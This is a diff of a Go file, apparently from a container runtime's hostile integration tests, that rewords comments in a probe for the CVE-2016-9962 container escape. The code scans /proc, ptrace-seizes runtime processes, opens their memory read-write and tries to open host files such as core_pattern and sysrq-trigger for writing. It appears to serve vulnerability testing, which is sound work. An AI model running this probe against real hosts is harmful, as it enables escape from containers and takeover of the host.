@@ -15,22 +15,22 @@ import (
 	"github.com/rkt/containerd-shim-rkt-v1/integration/hostile/loot"
 )
 
-// hunter looks at every process that it sees, again and again.
+// hunter examines every process that it sees, again and again.
 type hunter struct {
 	target
 	self   int
 	bound  uint64         // capabilities that this container may have
 	filter bool           // this container has a filter of system calls
-	images map[int64]bool // sizes of what images have as programs
+	images map[int64]bool // sizes of the programs in images
 	number int
 }
 
-// hunt is the class of CVE-2016-9962: a process of the runtime's that is about to
-// become one of a container can be seen from within. The hunter takes what it can of
-// it: its root, its descriptors, its working directory, its memory, its program. With
-// "once" as its argument it looks at what is there and ends.
+// hunt is the attack of CVE-2016-9962: a process of the runtime that is about to become one of
+// a container can be seen from inside. The hunter tries to get its root, its descriptors, its
+// working directory, its memory and its program. With the argument "once" it examines the
+// present processes and ends.
 func (t target) hunt(args []string) {
-	runtime.LockOSThread() // who seizes a process is a thread
+	runtime.LockOSThread() // a tracer is a thread
 	h := &hunter{target: t, self: os.Getpid()}
 	own := status("/proc/self/status")
 	h.bound, _ = strconv.ParseUint(own["CapBnd"], 16, 64)
@@ -49,12 +49,12 @@ func (t target) hunt(args []string) {
 	}
 }
 
-// processes lists those that /proc shows, the youngest first.
+// processes lists the processes in /proc, the youngest first.
 func processes() (pids []int) {
 	dir, err := os.Open("/proc")
 	must(err)
 	defer dir.Close()
-	names, _ := dir.Readdirnames(-1) // what ends meanwhile is of no interest
+	names, _ := dir.Readdirnames(-1) // processes that end meanwhile do not matter
 	for _, n := range names {
 		if pid, err := strconv.Atoi(n); err == nil {
 			pids = append(pids, pid)
@@ -67,7 +67,7 @@ func processes() (pids []int) {
 
 func (h *hunter) raid(pid int) {
 	proc := fmt.Sprintf("/proc/%d/", pid)
-	// What opens first is what a process has for the shortest time.
+	// Open first the files that a process has for the shortest time.
 	h.takeFiles(proc)
 	h.takeDescriptors(proc)
 	h.takeProc(proc)
@@ -101,7 +101,7 @@ func (h *hunter) takeSecret(proc, dir string) {
 	}
 }
 
-// takeDescriptors follows those that are directories to the secret.
+// takeDescriptors tries to reach the secret from descriptors that are directories.
 func (h *hunter) takeDescriptors(proc string) {
 	names, err := readNames(proc + "fd")
 	if err != nil {
@@ -112,7 +112,7 @@ func (h *hunter) takeDescriptors(proc string) {
 	}
 }
 
-// takeProc opens for writing what is the whole machine's.
+// takeProc tries to open files of the whole machine for writing.
 func (h *hunter) takeProc(proc string) {
 	for _, file := range []string{"sys/kernel/core_pattern", "sysrq-trigger", "sys/kernel/modprobe"} {
 		if fd, err := unix.Open(proc+"root/proc/"+file, unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
@@ -133,22 +133,22 @@ func (h *hunter) takeProc(proc string) {
 	}
 }
 
-// takeMemory opens the memory of a process that has more than the container.
+// takeMemory opens the memory of a process that has more rights than the container.
 func (h *hunter) takeMemory(proc string) {
 	fd, err := unix.Open(proc+"mem", unix.O_RDWR|unix.O_CLOEXEC, 0)
 	if err != nil {
 		return
 	}
 	defer unix.Close(fd)
-	// What is asked only now is as it was when the memory was opened, or a process has
-	// less meanwhile: it becomes a container's.
+	// The rights are read after the memory was opened. By then they are the same or less,
+	// because the process becomes one of a container.
 	if why := h.more(proc); why != "" {
 		got(loot.Process, "the memory of %s, %s", h.describe(proc), why)
 	}
 }
 
-// more says what a process of the runtime's has more than this container. To trace
-// those of containers that have no more is no loot.
+// more returns which rights a process of the runtime has that this container lacks. Tracing a
+// process of a container without further rights is no loot.
 func (h *hunter) more(proc string) string {
 	theirs := status(proc + "status")
 	if caps, err := strconv.ParseUint(theirs["CapPrm"], 16, 64); err == nil && caps&^h.bound != 0 {
@@ -170,8 +170,8 @@ func (h *hunter) more(proc string) string {
 	return ""
 }
 
-// know notes the programs of containers. All have the same, each in a file system of
-// its own: their sizes tell them from the runtime's.
+// know records the programs of containers. All containers have the same programs, each in a
+// file system of its own. Their sizes distinguish them from the runtime's programs.
 func (h *hunter) know() {
 	h.images = map[int64]bool{}
 	for _, program := range []string{"/bin/attacker", "/bin/busybox"} {
@@ -181,14 +181,14 @@ func (h *hunter) know() {
 	}
 }
 
-// foreign reports whether the program of a process is seen, and none of a container's.
+// foreign reports whether the program of a process can be read and is not one of a container.
 func (h *hunter) foreign(proc string) bool {
 	var st unix.Stat_t
 	return unix.Stat(proc+"exe", &st) == nil && !h.images[st.Size]
 }
 
-// takeOver seizes a process. To be allowed that is no loot by itself: other processes
-// of the container may be seized.
+// takeOver seizes a process. A seizure alone is no loot, because the container may seize its
+// other processes.
 func (h *hunter) takeOver(pid int, proc string) {
 	if unix.PtraceSeize(pid) != nil {
 		return
@@ -196,8 +196,8 @@ func (h *hunter) takeOver(pid int, proc string) {
 	if why := h.more(proc); why != "" {
 		got(loot.Process, "seized %s, %s", h.describe(proc), why)
 	}
-	// A detach wants the process stopped. One that has ended must be waited for: as long as
-	// its tracer has not, its parent, the runtime's supervisor, cannot.
+	// A detach needs a stopped process. A process that has ended must be waited for: until its
+	// tracer has done that, its parent, the runtime's supervisor, cannot reap it.
 	_ = unix.PtraceInterrupt(pid)
 	var ws unix.WaitStatus
 	if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err == nil && ws.Stopped() {
@@ -205,14 +205,14 @@ func (h *hunter) takeOver(pid int, proc string) {
 	}
 }
 
-// describe is the command line of a process that may have ended.
+// describe returns the command line of a process, which may have ended.
 func (h *hunter) describe(proc string) string {
 	b, _ := os.ReadFile(proc + "cmdline")
 	exe, _ := os.Readlink(proc + "exe")
 	return strings.TrimSpace(strings.ReplaceAll(string(b), "\x00", " ")) + " (" + filepath.Base(exe) + ")"
 }
 
-// name is a path below /proc without the number, which differs from run to run.
+// name returns a path below /proc without the pid, which differs from run to run.
 func name(proc string) string {
 	if proc == "/proc/1/" {
 		return proc
